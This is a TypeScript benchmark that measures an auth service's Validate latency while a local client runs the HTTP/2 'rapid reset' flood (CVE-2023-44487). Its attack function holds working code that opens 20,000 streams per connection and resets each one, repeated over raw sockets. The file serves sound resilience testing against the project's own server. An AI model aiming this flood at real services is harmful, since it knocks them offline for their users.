import { once } from 'node:events';
import { connect } from 'node:net';
import { callHeaders, frame, PREFACE } from '../../test/support/clients/http2-frames';
import type { BenchOptions, Section } from '../section';
import { mint, seed, temporaryDatabase } from '../seed';
import { startPostern } from '../servers/servers';
import { median } from '../statistics';
import { PER_SECOND, SECONDS, steady } from './flood';

const STREAMS = 20_000;
const CONNECTIONS_PER_SECOND = 4;
const END_HEADERS = 4;
const CANCEL = Buffer.from([0, 0, 0, 8]);

/** Validate at a steady rate, alone and while a client opens and resets calls (CVE-2023-44487, "rapid reset"). */
export async function resetFlood({ rounds, scale }: BenchOptions): Promise<Section> {
  const { database, url, remove } = temporaryDatabase();
  const users = await seed(database, { users: 200 });
  const [token = ''] = await mint(database, users, 1, 'HS256');
  const server = await startPostern({ DATABASE_URL: url });
  const calm: number[] = [];
  const flooded: number[] = [];
  let wrong = 0;
  for (let round = -1; round < rounds; round += 1) {
    const alone = await steady(server, token, scale);
    const ended = new AbortController();
    const flood = attack(server.address, ended.signal);
    const together = await steady(server, token, scale);
    ended.abort();
    await flood;
    if (round < 0) continue;
    calm.push(alone.p99);
    flooded.push(together.p99);
    wrong += alone.wrong + together.wrong;
  }
  await server.stop();
  remove();
  const each = STREAMS.toLocaleString('en');
  return {
    id: 'reset-flood',
    title:
      `Validate at ${PER_SECOND} calls per second for ${SECONDS} s, beside ${CONNECTIONS_PER_SECOND} connections per ` +
      `second that open ${each} calls and reset them`,
    rows: [],
    facts: [
      { name: 'p99 without the flood', value: median(calm) / 1000, unit: 'ms' },
      { name: 'p99 during the flood', value: median(flooded) / 1000, unit: 'ms', target: { atMost: 100 } },
      { name: 'wrong answers to Validate', value: wrong, unit: '', target: { atMost: 0 } },
    ],
  };
}

/** Each connection sends all at once; the service ends it. */
async function attack(address: string, ended: AbortSignal): Promise<void> {
  const headers = callHeaders('/postern.auth.v1.AuthService/Validate');
  const calls = Array.from({ length: STREAMS }, (_, i) => [
    frame(1, END_HEADERS, 2 * i + 1, headers),
    frame(3, 0, 2 * i + 1, CANCEL),
  ]);
  const bytes = Buffer.concat([PREFACE, ...calls.flat()]);
  const [host = '', port = ''] = address.split(':');
  while (!ended.aborted) {
    const socket = connect(Number(port), host);
    const closed = new Promise((resolve) => socket.once('close', resolve));
    socket.on('error', () => {}).resume();
    await once(socket, 'connect');
    socket.write(bytes);
    await Promise.all([closed, new Promise((resolve) => setTimeout(resolve, 1_000 / CONNECTIONS_PER_SECOND))]);
  }
}
